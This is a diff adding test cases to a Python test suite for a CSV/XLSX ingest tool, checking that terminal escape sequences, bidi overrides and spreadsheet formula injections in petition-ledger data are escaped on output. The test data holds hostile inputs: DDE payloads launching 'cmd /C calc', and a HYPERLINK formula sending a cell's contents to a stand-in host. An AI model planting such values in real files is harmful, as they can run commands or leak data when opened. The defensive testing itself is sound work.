@@ -23,6 +23,7 @@ from pathlib import Path
 from unittest import mock
 
 from tests.conftest import write_csv, write_xlsx
+from tests.escapes import BIDI, C1, CLEAR, OSC52, PAINT, raw_controls
 
 # ---------------------------------------------------------------- what a case declares
 
@@ -912,6 +913,44 @@ def csv_20000_columns(d: Path) -> Expect:
     return Expect([Msg(f"等共 {len(extra)} 列", "信访投诉台账.csv", once=True)], 30)
 
 
+# ---------------------------------------------------------------- text that would drive a terminal or a spreadsheet
+
+ESCAPED_FILE = "信访投诉台账\x1b[31m红\r.csv"
+ESCAPED_LABEL = "信访投诉台账\\x1b[31m红\\x0d.csv"  # as the summary shows it
+
+
+@case("escape sequences, C1 controls and bidi overrides in cells and in a file name")
+def terminal_escapes(d: Path) -> Expect:
+    rows = [good_petition(i) for i in range(1, 6)]
+    rows[0][4] = "噪声" + OSC52 + "扰民"
+    rows[1][4] = PAINT
+    rows[2][4] = BIDI + C1
+    rows[3][5] = "县级" + CLEAR  # a 级别 outside the agreed values: the note quotes it
+    write_csv(d / ESCAPED_FILE, [PET_H, *rows])
+
+    def verify(con):  # the store keeps the raw value; only output is escaped
+        got = dict(con.execute("select petition_no, summary from petitions").fetchall())
+        assert got["XF2024001"] == "噪声" + OSC52 + "扰民" and got["XF2024003"] == BIDI + C1, got
+
+    return Expect([Msg("有约定之外的取值：县级\\x1b[2J", ESCAPED_LABEL), Msg("编码 UTF-8", ESCAPED_LABEL)], 5,
+                  verify=verify)
+
+
+@case("cells a spreadsheet would run as formulas (+, -, @)")
+def formula_cells(d: Path) -> Expect:
+    rows = [good_petition(i) for i in range(1, 4)]
+    rows[0][4] = '+HYPERLINK("http://example.invalid/?"&E2,"详情")'
+    rows[1][4] = "-2+3+cmd|' /C calc'!A0"
+    rows[2][4] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    write_csv(d / "信访投诉台账.csv", [PET_H, *rows])
+
+    def verify(con):  # stored as written: the guard belongs to the CSV writer, not the store
+        got = {r[0] for r in con.execute("select summary from petitions").fetchall()}
+        assert got == {r[4] for r in rows}, got
+
+    return Expect([Msg("编码 UTF-8", "信访投诉台账.csv")], 3, verify=verify)
+
+
 # ---------------------------------------------------------------- files that move under our feet
 
 
@@ -1090,6 +1129,8 @@ def run_case(c: Case, work: Path) -> Result:
         check_out = res.output
         if crash := _crashed(res):
             failures.append(f"dash check: {crash}")
+        if raw := raw_controls(check_out):
+            failures.append(f"dash check printed terminal control characters raw: {', '.join(raw)}")
         want = 2 if expect.has_problems else 0
         if res.exit_code != want:
             failures.append(f"dash check exit code {res.exit_code}, expected {want}")
@@ -1101,6 +1142,8 @@ def run_case(c: Case, work: Path) -> Result:
     ingest_out = res.output
     if crash := _crashed(res):
         failures.append(f"dash ingest: {crash}")
+    if raw := raw_controls(ingest_out):
+        failures.append(f"dash ingest printed terminal control characters raw: {', '.join(raw)}")
     # A store is never written without a single row: nothing to load is exit 1, nothing written.
     want = 0 if expect.loaded else 1
     if res.exit_code != want:
